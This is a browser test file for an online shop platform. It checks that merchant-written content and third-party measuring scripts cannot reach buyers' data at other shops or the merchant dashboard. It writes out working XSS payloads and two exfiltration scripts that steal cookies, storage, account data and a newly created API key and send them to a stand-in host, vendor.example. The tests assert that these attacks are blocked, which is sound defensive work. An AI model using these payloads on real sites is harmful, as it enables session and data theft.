import { sql } from 'kysely'
import { describe, expect, it } from 'vitest'
import { startService } from '../../support/service.ts'
import { browserTimeout, chromiumMissing } from '../support/chromium.ts'
import { openDashboard } from '../support/dashboard.ts'
import { fillCart, openOnDomain, openShopPages } from '../support/shop.ts'

const service = await startService()
const shop = await openShopPages(service)
const owner = { cookie: shop.browser.cookie!, keys: `${shop.path}/api-keys` }

const stolenKey = { name: 'stolen', key_type: 'restricted', scopes: ['order:list'] }

/** Reads the signed-in account, creates a key, and sends both to the attacker's host. */
const attack = (run: string) => `(async () => {
  const get = async (path, options) => {
    try {
      return (await fetch('${service.appUrl}' + path, { credentials: 'include', ...options })).text()
    } catch (error) {
      return String(error)
    }
  }
  const me = await get('/api/me')
  const key = await get('${owner.keys}', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(${JSON.stringify(stolenKey)}),
  })
  new Image().src = 'https://vendor.example/leak?' + new URLSearchParams({ run: '${run}', me, key })
})()`

/** Markup that runs the attack if a browser or a sanitizer lets it. */
const hostile = [
  '<p>Kopi <b>enak</b></p>',
  `<script>${attack('inline')}</script>`,
  '<script src="https://connect.facebook.net/en_US/fbevents.js"></script>',
  `<img src="x" onerror="${attack('onerror').replaceAll('"', '&quot;')}">`,
  `<svg><script>${attack('svg')}</script></svg>`,
  `<iframe srcdoc="&lt;script src='https://connect.facebook.net/en_US/fbevents.js'&gt;&lt;/script&gt;"></iframe>`,
  `<a href="javascript:${encodeURIComponent(attack('link'))}">Klik</a>`,
  '<base href="https://vendor.example/">',
  '<form action="https://vendor.example/"><button>Kirim</button></form>',
].join('\n')

/**
 * A signed-in merchant's tab in which every foreign host responds with the attack. `leaks` is what reached the vendor.
 */
async function openHostileTab() {
  const tab = await openDashboard(service, owner.cookie)
  const leaks: string[] = []
  const scripts: string[] = []
  await tab.context.route(
    (url) => !/(^|\.)localhost$|^127\./.test(url.hostname),
    (route) => {
      const url = route.request().url()
      if (url.includes('/leak?')) leaks.push(url)
      else if (route.request().resourceType() === 'script') scripts.push(url)
      return route.fulfill({ contentType: 'text/javascript', body: attack('vendor') })
    },
  )
  return { ...tab, leaks, scripts }
}

const domain = 'kopi.localhost'
const keyNames = async () =>
  (await shop.browser.get(owner.keys)).body.data.map(({ name }: { name: string }) => name) as string[]

const agree = (storeId: string) => `localStorage.setItem('${storeId}:measuring', 'granted')`

const apart = await startService({ databaseUrl: service.databaseUrl, hasOwnOrigins: true })

/** Tries to read what a buyer has at another shop, and the dashboard, in every way that a script has. */
const spy = (victim: string, app: string, keys: string) => `(async () => {
  const attempt = async (read) => {
    try {
      return String(await read())
    } catch (error) {
      return error.name
    }
  }
  const get = (url, options) => attempt(async () => (await fetch(url, { credentials: 'include', ...options })).text())
  const frame = document.createElement('iframe')
  frame.src = '${victim}/account'
  const isShown = new Promise((resolve) => (frame.onload = resolve))
  document.body.append(frame)
  await isShown
  new Image().src = 'https://vendor.example/leak?' + new URLSearchParams({
    run: 'spy',
    page: await get('${victim}/cart'),
    api: await get('${victim}/v3/stores/x/customers/me', { headers: { 'x-service-storefront-api-key': 'x' } }),
    storage: JSON.stringify(localStorage),
    cookies: document.cookie,
    frame: await attempt(() => frame.contentWindow.localStorage.length),
    me: await get('${app}/api/me'),
    key: await get('${app}${keys}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
  })
})()`

describe.skipIf(chromiumMissing)('A hostile shop', { timeout: browserTimeout }, () => {
  it('reads nothing of a buyer of another shop, and nothing of the dashboard, from an origin of its own', async () => {
    const [hostile, victim] = [await openShopPages(apart), await openShopPages(apart)]
    await hostile.send('PATCH', `/stores/${hostile.store.id}/measuring/meta`, {
      is_enabled: true,
      pixel_id: '123456789012345',
    })
    const { page, context } = await openDashboard(apart, hostile.browser.cookie!)
    // The buyer has a cart at the other shop, in its storage and in a cookie, and a session there.
    await fillCart(page, victim)
    await page.evaluate(() => localStorage.setItem('secret-of-the-buyer', 'session'))
    await context.addCookies([{ name: 'etalase_cart_of_the_buyer', value: 'token', url: victim.url }])
    const leaks: URLSearchParams[] = []
    const body = spy(victim.url, apart.appUrl, `${hostile.path}/api-keys`)
    await context.route(
      (url) => !/(^|\.)localhost$|^127\./.test(url.hostname),
      (route) => {
        const url = new URL(route.request().url())
        if (url.pathname === '/leak') leaks.push(url.searchParams)
        return route.fulfill({ contentType: 'text/javascript', body })
      },
    )
    await context.addInitScript(agree(hostile.store.unique_id))
    await expect
      .poll(async () => (await page.goto(hostile.url))!.text(), { timeout: 20_000 })
      .toContain('"measuring":[{"vendor"')
    await expect.poll(() => leaks.length, { timeout: 20_000 }).toBeGreaterThan(0)
    expect(new URL(hostile.url).hostname).not.toBe(new URL(victim.url).hostname)
    const { storage, cookies, ...leak } = Object.fromEntries(leaks[0]!)
    expect(leak).toEqual({
      run: 'spy',
      page: 'TypeError',
      api: 'TypeError',
      frame: 'SecurityError',
      me: 'TypeError',
      key: 'TypeError',
    })
    expect(storage).not.toContain('secret-of-the-buyer')
    expect(storage).not.toContain(victim.store.unique_id)
    expect(cookies).not.toMatch(/etalase/)
  })

  it('reads and writes nothing of the dashboard with the script of a service', async () => {
    for (const [vendor, pixel_id] of Object.entries({ meta: '123456789012345', tiktok: 'C4A0B1C2D3', ga4: 'G-ABC123' }))
      await shop.send('PATCH', `/stores/${shop.store.id}/measuring/${vendor}`, {
        is_enabled: true,
        pixel_id,
        token: 'a-token-of-the-shop',
      })
    const isPossible = await shop.browser.post(owner.keys, { ...stolenKey, name: 'made by its owner' })
    expect(isPossible.status).toBe(201)
    const before = await keyNames()
    const tab = await openHostileTab()
    const { page, leaks, scripts } = tab
    await tab.context.addInitScript(agree(shop.store.unique_id))
    await expect
      .poll(async () => (await page.goto(shop.url))!.text(), { timeout: 20_000 })
      .toContain('"measuring":[{"vendor"')
    await page.getByRole('link', { name: 'Kopi Gayo Wine' }).click()
    await page.getByRole('button', { name: 'Add to cart' }).click()
    await page.getByText('Added to your cart.').waitFor()
    for (const path of ['', '/cart', '/checkout', '/find-order']) {
      await page.goto(shop.url + path)
      // Even a script that an element of the page requests is not loaded.
      const outcome = await page.evaluate(`new Promise((resolve) => {
        const script = document.createElement('script')
        script.onload = () => resolve('loaded')
        script.onerror = () => resolve('blocked')
        script.src = 'https://connect.facebook.net/en_US/fbevents.js?asked'
        document.head.append(script)
      })`)
      expect([path, outcome]).toEqual([path, 'blocked'])
    }
    expect({ scripts, leaks, keys: await keyNames() }).toEqual({ scripts: [], leaks: [], keys: before })
  })

  it('runs nothing that a merchant wrote, even if it was stored unsanitized', async () => {
    const { db } = service.service
    const about = await shop.send('POST', `/stores/${shop.store.id}/pages`, {
      kind: 'about',
      title: 'Tentang kami',
      slug: 'tentang-kami',
      body: '<p>Kopi enak</p>',
    })
    const { id } = await shop.sell({ name: 'Kopi <script>alert(1)</script>', slug: 'kopi-jahat' })
    await sql`update products set rich_description = ${hostile}
      where id = (select product_id from variants where id = ${id})`.execute(db)
    await sql`update store_pages set body = ${hostile} where id = ${about.id}`.execute(db)
    const before = await keyNames()
    const { page, leaks, scripts } = await openHostileTab()
    page.setDefaultTimeout(20_000)
    for (const path of ['/pages/tentang-kami', '/p/kopi-jahat']) {
      await expect.poll(async () => (await page.goto(shop.url + path))!.status()).toBe(200)
      await page.locator('main').getByText('enak').waitFor()
      for (const link of await page.locator('main').getByText('Klik').all()) await link.click()
      expect(await page.locator('main script, main iframe, main [onerror]').count()).toBe(0)
    }
    expect({ scripts, leaks, keys: await keyNames() }).toEqual({ scripts: [], leaks: [], keys: before })
  })

  it('loads the script on its own domain, from where nothing of the dashboard can be read or written', async () => {
    const before = await keyNames()
    const { page, context, leaks, scripts } = await openHostileTab()
    const url = await openOnDomain(service, shop, domain)
    await context.addInitScript(agree(shop.store.unique_id))
    await page.goto(url)
    await expect.poll(() => leaks.length, { timeout: 20_000 }).toBeGreaterThan(0)
    expect(scripts).toContain('https://connect.facebook.net/en_US/fbevents.js')
    for (const leak of leaks) {
      const leaked = new URL(leak).searchParams
      expect([leaked.get('me'), leaked.get('key')]).toEqual([
        'TypeError: Failed to fetch',
        'TypeError: Failed to fetch',
      ])
    }
    expect(await keyNames()).toEqual(before)
  })
})
